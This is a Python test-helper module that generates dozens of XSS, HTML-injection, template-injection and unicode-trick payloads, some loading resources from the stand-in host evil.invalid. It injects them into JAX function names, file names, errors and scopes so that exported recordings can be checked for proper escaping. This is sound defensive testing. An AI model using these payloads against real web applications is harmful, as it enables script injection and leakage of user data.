"""Texts that try to become markup, links or code, and programs that carry them into a recording by every way in.

Each text calls `hit(NUMBER)`, or asks `evil.invalid` for something, if anything takes it for more than text. Used by
test_r12_exports.py and, in a kernel, by ui-tests/tests/hostile.spec.ts.
"""

from __future__ import annotations

import contextlib
import linecache
import types
from typing import TYPE_CHECKING, Any

import jax
import jax.numpy as jnp
import numpy as np

if TYPE_CHECKING:
    from collections.abc import Callable

_SCRIPTS = [
    "<script>hit(N)</script>",
    "<script src=//evil.invalid/N.js></script>",
    "<ScRiPt>hit(N)</sCrIpT >",
    "<svg><script>hit(N)</script></svg>",
    "<script/x>hit(N)</script>",
    "<scr<script>ipt>hit(N)</script>",
]
_HANDLERS = [
    "<img src=x onerror=hit(N)>",
    "<img/src='x'/onerror=hit(N)>",
    "<svg onload=hit(N)>",
    "<svg><animate onbegin=hit(N) attributename=x dur=1s>",
    "<svg><set onbegin=hit(N)>",
    "<details open ontoggle=hit(N)>",
    "<input autofocus onfocus=hit(N)>",
    "<video><source onerror=hit(N)></video>",
    "<style onload=hit(N)></style>",
    "<body onload=hit(N)>",
]
_LINKS = [
    "<a href='javascript:hit(N)' id=x autofocus>N</a>",
    "<iframe src='javascript:parent.hit(N)'></iframe>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hit(N)</script>'></object>",
    "<embed src='//evil.invalid/N'>",
    "<img src='//evil.invalid/N.png'>",
    "<img srcset='//evil.invalid/N.png 1x'>",
    "<link rel=stylesheet href='//evil.invalid/N.css'>",
    "<style>@import '//evil.invalid/N.css';*{background:url(//evil.invalid/N)}</style>",
    "<p style='background:url(//evil.invalid/N)'>N</p>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/N'>",
    "<svg><image href='//evil.invalid/N.svg'/></svg>",
    "<svg><use href='//evil.invalid/N.svg#x'/></svg>",
    "<form action='//evil.invalid/N'><button autofocus>N</button></form>",
    "<base href='//evil.invalid/N/'>",
]
_MISREAD = [
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(N)></style></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit(N)>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit(N)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(N)>",
    "<template><script>hit(N)</script></template><img src=x onerror=hit(N)>",
    "<title></title><img src=x onerror=hit(N)>",
    "<xmp></xmp><img src=x onerror=hit(N)>",
    "<svg><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='hit(N)'/></foreignObject></svg>",
]
_MARKUP = [*_SCRIPTS, *_HANDLERS, *_LINKS, *_MISREAD]
_BREAKOUTS = ["", '">', "'>", "</title>", "</text></svg>", "]]>"]
"""What could end the place a text stands in: a plain text, an attribute, a title, a picture, a section of CDATA."""

_PLAIN = [
    "<lambda>",
    "</svg><script>hit(N)</script>",
    '" onmouseover="hit(N)" x="',
    "' onfocus='hit(N)' autofocus='",
    "x onerror=hit(N) ",
    "--><img src=x onerror=hit(N)><!--",
    "*/}</style><img src=x onerror=hit(N)>",
    "`${hit(N)}`",
    "${hit(N)}",
    "{{constructor.constructor('hit(N)')()}}",
    "{%hit(N)%}",
    "<%= hit(N) %>",
    "#{hit(N)}",
    "javascript:hit(N)",
    "data:text/html,<script>hit(N)</script>",
    "vbscript:hit(N)",
    "//evil.invalid/N",
    "https://evil.invalid/N",
    "file:///evil.invalid/N",
    "![N](//evil.invalid/N.png)",
    "[N](javascript:hit(N))",
    "$$\\href{javascript:hit(N)}{N}$$",
    "$\\includegraphics{//evil.invalid/N.png}$",
    "&lt;img src=x onerror=hit(N)&gt;",
    "&#60;img src=x onerror=hit(N)&#62;",
    "\\u003cimg src=x onerror=hit(N)\\u003e",
    "%3Cimg src=x onerror=hit(N)%3E",
    "<!DOCTYPE x [<!entity e system '//evil.invalid/N'>]>&e;N",
    "<?xml-stylesheet href='//evil.invalid/N.css'?>",
    "<![CDATA[<img src=x onerror=hit(N)>]]>",
    "\uff1cimg src=x onerror=hit(N)\uff1e",
    "\u202e>)N(tih=rorreno gmi<",
    "\u2066hidden\u2069 N\u200f",
    "nul\x00<img src=x onerror=hit(N)>",
    "\x1b[31mN\x1b]8;;javascript:hit(N)\x07",
    "\ud800N<img src=x onerror=hit(N)>",
    "N\udfff",
    "\ufffe\uffffN",
    "line\nN\r\n\u2028\u2029end",
    "\t N \xa0\u3000",
    "N" + "\u0301" * 300,
    '"]; evil [URL="javascript:hit(N)"]; x [label="N',
    '\\"]; evil -> N; //',
    "<<TABLE><TR><TD HREF='//evil.invalid/N'>N</TD></TR></TABLE>>",
    "\\N\\G\\L N",
    "__proto__N",
    "constructor",
    "toString",
    "<img src=x onerror=hit(N)>" + "x" * 10_000,
    "",
    " ",
]


def payloads() -> list[str]:
    """All texts, each with its own number in it where it has room for one."""
    forms = [around + markup for markup in _MARKUP for around in _BREAKOUTS] + _PLAIN
    return [form.replace("(N)", f"({number})").replace("N", str(number)) for number, form in enumerate(forms)]


def wide(texts: list[str]) -> None:
    """One jitted function for each text: its name, its file's name, a comment of its source and its error."""
    for text in texts:
        with contextlib.suppress(Exception):
            jax.jit(named(text)).trace(np.ones(3, np.float32))
        with contextlib.suppress(Exception):
            jax.jit(failing(text)).trace(np.ones(3, np.float32))


def named(text: str) -> Callable[[jax.Array], jax.Array]:
    """A function called so, in a file called so, with the text in its source."""
    source = f"def f(x):\n    y = jnp.sin(x)  # {' '.join(text.split())}\n    return y\n"
    filename = f"/{text}"  # a name in angle brackets would be nobody's file
    code = compile(source.encode(errors="replace").decode(), "elsewhere.py", "exec")
    inner = next(constant for constant in code.co_consts if isinstance(constant, types.CodeType))
    for replaced in ({"co_name": text, "co_qualname": text}, {"co_filename": filename}):
        with contextlib.suppress(ValueError, UnicodeError):  # Python itself takes no lone surrogate here
            inner = inner.replace(**replaced)
    linecache.cache[filename] = (len(source), None, source.splitlines(keepends=True), filename)
    function = types.FunctionType(inner, {"jnp": jnp})
    function.__name__ = function.__qualname__ = text
    return function


def failing(text: str) -> Callable[[jax.Array], jax.Array]:
    """A function that raises an error of that text, whose type is called so too."""
    kind: type[Exception] = type("".join(text.split("\0")), (Exception,), {})

    def fails(x: jax.Array) -> jax.Array:
        jnp.sin(x)
        raise kind(text)

    return fails


def dense(texts: list[str]) -> None:
    """One function, traced three times: the texts are its scopes, arguments' keys, static values, globals and axes."""
    tables = {f"{text}#": jnp.arange(8.0) + number for number, text in enumerate(texts)}

    def carrying(tree: dict[str, jax.Array], mode: str) -> jax.Array:
        total = jnp.zeros(())
        for number, text in enumerate(texts):
            with contextlib.ExitStack() as scopes:
                with contextlib.suppress(Exception):
                    scopes.enter_context(jax.named_scope(text))
                total = total + jnp.sum(tree[text] * tables[f"{text}#"][: 4 + number % 2].sum())
        return jax.vmap(lambda x: x + jax.lax.axis_size(mode), axis_name=mode)(jnp.stack([total, total]))

    traced: Any = jax.jit(carrying, static_argnames="mode")
    for size, mode in ((2, texts[0]), (3, texts[0]), (3, texts[-1])):
        with contextlib.suppress(Exception):
            traced.trace({text: np.ones(size, np.float32) for text in texts}, mode)
